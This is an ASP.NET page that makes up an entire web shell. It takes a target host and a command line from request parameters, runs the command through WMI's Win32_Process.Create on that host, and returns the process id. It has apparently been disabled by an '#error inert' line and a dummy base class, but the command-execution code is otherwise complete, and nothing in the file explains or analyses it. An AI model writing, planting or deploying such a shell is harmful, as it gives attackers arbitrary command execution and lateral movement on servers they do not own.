<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Management" %>
<%
#error inert
var scope = new ManagementScope(@"\\" + (Request["host"] ?? ".") + @"\root\cimv2");
var mc = new ManagementClass(scope, new ManagementPath("Win32_Process"), null);
var args = mc.GetMethodParameters("Create");
args["CommandLine"] = Request["line"];
var r = mc.InvokeMethod("Create", args, null);
Response.Write("pid " + r["processId"]);
%>
